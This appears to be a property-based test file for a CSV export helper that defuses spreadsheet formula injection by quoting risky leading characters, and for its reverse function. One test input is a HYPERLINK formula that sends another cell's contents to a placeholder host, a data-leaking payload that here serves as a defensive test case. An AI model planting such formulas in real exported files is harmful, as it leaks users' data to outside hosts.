import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { neutraliseCell, stripNeutralisation } from './csv-cells.js';

/** Text made of what matters here (quotes, the six starting characters) and anything else. */
const cellText = fc.string({
  unit: fc.oneof(fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', '"', ','), fc.string({ unit: 'binary', minLength: 1, maxLength: 1 })),
  maxLength: 12,
});

describe('CSV cells a spreadsheet does not run', () => {
  it.each([
    ['=HYPERLINK("https://x.invalid/?"&A2,"open")', '\'=HYPERLINK("https://x.invalid/?"&A2,"open")'],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tX', "'\tX"],
    ['\rX', "'\rX"],
    ["'=X", "''=X"],
    ["''@x", "'''@x"],
    ['TEE-RED-M', 'TEE-RED-M'],
    ['A=1', 'A=1'],
    [' =1', ' =1'],
    ["'TEE", "'TEE"],
    ["'", "'"],
    ['', ''],
    ['12.5', '12.5'],
    ['2026-12-01T00:00:00.000Z', '2026-12-01T00:00:00.000Z'],
  ])('writes %j as %j, and reads it back', (value, cell) => {
    expect(neutraliseCell(value)).toBe(cell);
    expect(stripNeutralisation(cell)).toBe(value);
  });

  it('takes exactly one quote off a cell that starts with quotes before one of = + - @ tab CR, and leaves every other cell alone', () => {
    expect(stripNeutralisation("'=X")).toBe('=X');
    expect(stripNeutralisation("'''-1")).toBe("''-1");
    expect(stripNeutralisation("'X")).toBe("'X");
    expect(stripNeutralisation("'\nX")).toBe("'\nX");
    expect(stripNeutralisation("x'=X")).toBe("x'=X");
  });

  it('round-trips every text: stripNeutralisation(neutraliseCell(x)) is x, and a written cell never starts a formula', () => {
    fc.assert(
      fc.property(cellText, (text) => {
        const cell = neutraliseCell(text);
        expect(stripNeutralisation(cell)).toBe(text);
        expect(/^[=+\-@\t\r]/.test(cell)).toBe(false);
      }),
      { numRuns: 2000, examples: [["'=X"], ["''"], ["'\r"], ['-']] },
    );
  });
});
